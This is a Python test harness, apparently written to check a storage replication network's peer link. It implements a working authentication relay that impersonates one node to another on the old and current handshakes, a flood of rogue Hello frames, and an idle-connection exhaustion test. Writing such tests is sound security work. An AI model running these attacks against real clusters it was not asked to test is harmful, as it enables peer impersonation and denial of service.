#!/usr/bin/env python3
"""A host on the replication network that holds no secret, attacking the peer link (port 7788).

Modes (each bounded in time, each prints one line per finding and exits 0 when it ran):

  relay-v1 A B   the relay attack on the first protocol: connect to A claiming to be B and to
                 B claiming to be A, pass B's challenge to A and A's answer back to B, then tell
                 B "accepted". Before authentication was bound to the handshake, B trusted us.
  relay A B      the same against the current handshake: open a connection to each node claiming
                 to be the other, pass every handshake frame one node sends on to the other, and
                 report how far each got.
  rogue-hello A  send a volume Hello (the first frame of the old protocol) every --interval seconds
                 for --duration seconds, each on a new connection.
  idle A         open --count TCP connections, send nothing, and report after --duration seconds
                 how many the node had closed.

A and B are HOST:PORT. --source binds our end of every connection to that address, so the
nodes' logs can tell us apart from the real peers.

Frame layout: docs/peer-protocol.md (32-byte header, big-endian, CRC32C).
"""
import argparse
import os
import select
import socket
import struct
import sys
import time

from pyiscsi import crc32c  # the same CRC32C as iSCSI's digests

MAGIC = 0x46565052
T_HELLO, T_AUTH_CHALLENGE, T_AUTH_RESPONSE, T_AUTH_RESULT = 0x01, 0x02, 0x03, 0x04
T_AUTH_HELLO, T_AUTH_PROOF = 0x06, 0x07
T_DISCONNECT = 0x23
FLAG_PAYLOAD_CRC = 1


def frame(ftype, payload, request_id=0):
    head = struct.pack(">IBBHQII", MAGIC, 1, ftype, FLAG_PAYLOAD_CRC, request_id, len(payload), crc32c(payload))
    head += struct.pack(">I", 0)
    return head + struct.pack(">I", crc32c(head)) + payload


def name(text):
    raw = text.encode()
    return raw + b"\0" * (64 - len(raw))


def hello_v1(node_id, node_name, cluster, volume):
    body = struct.pack(">HHI", 1, 1, node_id) + name(node_name) + name(cluster) + name(volume)
    body += b"\0" * 16 + struct.pack(">QIBB", 1 << 20, 512, 4, 1) + b"\0\0"
    body += b"\0" * 32 + b"\0" * 32 + struct.pack(">Q", 0)
    return frame(T_HELLO, body)


def auth_hello(node_id, node_name, cluster, side, nonce=None):
    nonce = nonce if nonce is not None else os.urandom(32)
    body = struct.pack(">HHI", 2, 2, node_id) + name(node_name) + name(cluster) + nonce
    body += struct.pack(">B", side) + b"\0" * 7
    return frame(T_AUTH_HELLO, body)


class Conn:
    """One TCP connection that reads whole frames."""

    def __init__(self, target, source):
        host, port = target.rsplit(":", 1)
        self.sock = socket.socket()
        if source:
            self.sock.bind((source, 0))
        self.sock.settimeout(5)
        self.sock.connect((host, int(port)))
        self.buf = b""
        self.closed = False

    def send(self, data):
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed = True

    def next_frame(self, timeout):
        """(type, payload, raw bytes), or None on timeout or close."""
        deadline = time.monotonic() + timeout
        while True:
            if len(self.buf) >= 32:
                ftype = self.buf[5]
                length = struct.unpack(">I", self.buf[16:20])[0]
                flags = struct.unpack(">H", self.buf[6:8])[0]
                total = 32 + length + (16 if flags & 4 else 0)
                if len(self.buf) >= total:
                    raw, self.buf = self.buf[:total], self.buf[total:]
                    return ftype, raw[32:32 + length], raw
            left = deadline - time.monotonic()
            if left <= 0 or self.closed:
                return None
            r, _, _ = select.select([self.sock], [], [], left)
            if not r:
                return None
            try:
                chunk = self.sock.recv(65536)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return None
            self.buf += chunk

    def wait_closed(self, timeout):
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            if self.next_frame(deadline - time.monotonic()) is None and not self.closed:
                break
        return self.closed


def frames_until(conn, wanted, timeout):
    """Frames read until one of type `wanted` (returned), or None."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        f = conn.next_frame(deadline - time.monotonic())
        if f is None:
            return None
        if f[0] == wanted:
            return f
        if f[0] == T_DISCONNECT:
            print(f"  disconnect: {f[1][8:].rstrip(bytes(1)).decode(errors='replace')}")
            return None
    return None


def relay_v1(args):
    a = Conn(args.a, args.source)   # we claim to be b here
    a.send(hello_v1(args.b_id, args.b_name, args.cluster, args.volume))
    hello_a = frames_until(a, T_HELLO, 5)
    challenge_a = frames_until(a, T_AUTH_CHALLENGE, 5)
    if hello_a is None or challenge_a is None:
        print("relay-v1: a sent no Hello and challenge to an unauthenticated peer")
        return
    print("relay-v1: a sent its Hello (cluster, UUID, configuration hash, generations) before any proof")
    b = Conn(args.b, args.source)   # we claim to be a here, with a's own Hello
    b.send(hello_a[2])
    challenge_b = frames_until(b, T_AUTH_CHALLENGE, 5)
    if challenge_b is None:
        print("relay-v1: b did not challenge us")
        return
    a.send(frame(T_AUTH_CHALLENGE, challenge_b[1]))
    response_a = frames_until(a, T_AUTH_RESPONSE, 5)
    if response_a is None:
        print("relay-v1: a did not answer the relayed challenge")
        return
    b.send(frame(T_AUTH_RESPONSE, response_a[1]))
    result = frames_until(b, T_AUTH_RESULT, 5)
    if result is None or result[1][0] != 1:
        print("relay-v1: b rejected the relayed answer")
        return
    b.send(frame(T_AUTH_CHALLENGE, os.urandom(32)))
    b.send(frame(T_AUTH_RESULT, b"\1\0\0\0"))
    print("relay-v1: b ACCEPTED the relayed answer: we are 'a' to b")
    time.sleep(1)


def relay(args):
    """Two connections, each claiming the other node; every handshake frame goes across."""
    to_b = Conn(args.b, args.source)   # claims a (dialler side)
    to_a = Conn(args.a, args.source)   # claims b (dialler side)
    to_b.send(auth_hello(args.a_id, args.a_name, args.cluster, 1))
    to_a.send(auth_hello(args.b_id, args.b_name, args.cluster, 1))
    got = {"a": [], "b": []}
    deadline = time.monotonic() + args.duration
    conns = {"a": to_a, "b": to_b}
    other = {"a": to_b, "b": to_a}
    while time.monotonic() < deadline and not (to_a.closed and to_b.closed):
        for node, conn in conns.items():
            if conn.closed:
                continue
            f = conn.next_frame(0.1)
            if f is None:
                continue
            got[node].append(f[0])
            if f[0] in (T_AUTH_HELLO, T_AUTH_PROOF, T_AUTH_CHALLENGE, T_AUTH_RESPONSE):
                other[node].send(f[2])
    for node in ("a", "b"):
        kinds = ",".join(f"{t:#04x}" for t in got[node]) or "nothing"
        print(f"relay: {node} sent {kinds}; {'closed the connection' if conns[node].closed else 'still open'}")
        if T_AUTH_PROOF in got[node]:
            print(f"relay: {node} SENT A PROOF to an unauthenticated peer")
    # A junk proof on any connection still open must end it too.
    for node, conn in conns.items():
        if not conn.closed:
            conn.send(frame(T_AUTH_PROOF, os.urandom(32)))
            print(f"relay: {node} {'closed' if conn.wait_closed(6) else 'KEPT'} the connection after a junk proof")


def rogue_hello(args):
    deadline = time.monotonic() + args.duration
    sent = 0
    while time.monotonic() < deadline:
        try:
            c = Conn(args.a, args.source)
            c.send(hello_v1(args.b_id, args.b_name, args.cluster, args.volume))
            sent += 1
            c.sock.close()
        except OSError:
            pass
        time.sleep(args.interval)
    print(f"rogue-hello: sent {sent} Hellos")


def idle(args):
    conns = []
    for _ in range(args.count):
        try:
            conns.append(Conn(args.a, args.source))
        except OSError as e:
            print(f"idle: connect failed after {len(conns)}: {e}")
            break
    print(f"idle: {len(conns)} connections open")
    deadline = time.monotonic() + args.duration
    while time.monotonic() < deadline:
        open_ = [c for c in conns if not c.closed]
        if not open_:
            break
        r, _, _ = select.select([c.sock for c in open_], [], [], 0.5)
        for c in open_:
            if c.sock in r:
                try:
                    if not c.sock.recv(65536):
                        c.closed = True
                except OSError:
                    c.closed = True
    closed = sum(1 for c in conns if c.closed)
    print(f"idle: {closed} of {len(conns)} closed by the node")


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["relay-v1", "relay", "rogue-hello", "idle"])
    p.add_argument("a")
    p.add_argument("b", nargs="?")
    p.add_argument("--source", default="")
    p.add_argument("--cluster", default="itcluster")
    p.add_argument("--volume", default="vol0")
    p.add_argument("--a-name", default="a")
    p.add_argument("--a-id", type=int, default=1)
    p.add_argument("--b-name", default="b")
    p.add_argument("--b-id", type=int, default=2)
    p.add_argument("--interval", type=float, default=0.1)
    p.add_argument("--duration", type=float, default=10)
    p.add_argument("--count", type=int, default=100)
    args = p.parse_args()
    {"relay-v1": relay_v1, "relay": relay, "rogue-hello": rogue_hello, "idle": idle}[args.mode](args)
    sys.stdout.flush()


if __name__ == "__main__":
    main()
